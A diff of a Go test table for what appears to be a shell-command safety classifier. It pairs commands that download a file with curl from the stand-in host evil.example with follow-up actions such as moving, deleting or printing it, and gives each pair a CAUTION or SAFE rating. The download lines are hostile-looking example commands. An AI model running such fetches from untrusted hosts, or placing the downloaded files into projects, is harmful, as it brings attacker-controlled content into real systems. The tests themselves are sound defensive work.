@@ -105,7 +105,7 @@ func stories() map[string]story {
 		"moved":                      {"", after("curl -o data.json https://evil.example/d", "mv data.json lib/"), "CAUTION/B", ""},
 		"filtered into a file":       {"", after("curl -o data.json https://evil.example/d", "jq . data.json > out.json"), "CAUTION/A", ""},
 		"removed":                    {"", after("curl -o data.json https://evil.example/d", "rm data.json"), "CAUTION/B", ""},
-		"searched":                   {"", after("curl -o data.json https://evil.example/d", "grep -r TODO ."), "SAFE/A", ""},
+		"searched":                   {"", after("curl -o data.json https://evil.example/d", "grep -r total ."), "SAFE/A", ""},
 		"looked at":                  {"", after("curl -o data.json https://evil.example/d", "cat data.json"), "SAFE/A", ""},
 		"queried":                    {"", after("curl -o data.json https://evil.example/d", "jq . data.json"), "SAFE/A", ""},
 		"from this machine":          {"", after("curl -o x.sh http://localhost:8080/x.sh", "cat x.sh"), "SAFE/A", ""},
